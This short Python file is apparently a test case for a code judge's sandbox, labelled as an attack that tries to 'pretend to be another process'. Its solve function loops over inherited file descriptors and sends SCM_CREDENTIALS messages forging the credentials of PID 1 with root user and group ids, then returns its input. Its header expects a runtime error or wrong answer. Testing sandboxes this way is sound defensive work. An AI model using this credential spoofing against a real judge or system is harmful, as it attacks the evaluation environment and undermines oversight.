# /// attack
# tries = "Pretend to be another process"
# by = "SCM_CREDENTIALS on the channel"
# expect = ["RTE", "WA values"]
# ///
import os
import socket
import struct


def solve(x):
    for number in range(3, 64):
        try:
            channel = socket.socket(fileno=os.dup(number))
            claimed = struct.pack("3i", 1, 0, 0)
            channel.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, claimed)])
        except OSError:
            continue
    return x
